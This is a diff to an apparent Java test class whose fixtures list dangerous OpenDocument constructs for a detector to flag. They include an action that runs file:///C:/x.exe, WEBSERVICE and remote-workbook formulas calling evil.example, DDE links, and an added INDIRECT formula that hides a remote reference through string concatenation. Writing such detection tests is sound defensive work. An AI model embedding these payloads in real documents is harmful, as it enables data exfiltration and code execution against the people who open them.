@@ -76,6 +76,7 @@ class OdfDocumentsTest {
                 "RUNNING_ACTION!file:///C:/x.exe!<presentation:event-listener presentation:action='execute' xlink:href='file:///C:/x.exe'/>",
                 "FETCHING_FORMULA!WEBSERVICE!<table:table-cell table:formula='of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example&quot;)'/>",
                 "REMOTE_WORKBOOK!http://evil.example/x.ods!<table:table-cell table:formula=\"of:=['http://evil.example/x.ods'#$Sheet1.A1]\"/>",
+                "FETCHING_FORMULA!'https://evil.example/i.ods'#$S.A1!<table:table-cell table:formula=\"of:=INDIRECT(&quot;'&quot;&amp;&quot;https://evil.example/i.ods'&quot;&amp;&quot;#$S.A1&quot;)\"/>",
                 "DDE!soffice|x!<text:dde-connection-decl office:dde-application='soffice' office:dde-topic='x'/>",
                 "DATA_CONNECTION!Clients!<form:form form:datasource='Clients'/>",
                 "DATA_CONNECTION!https://evil.example/!<form:form xlink:href='https://evil.example/'/>",
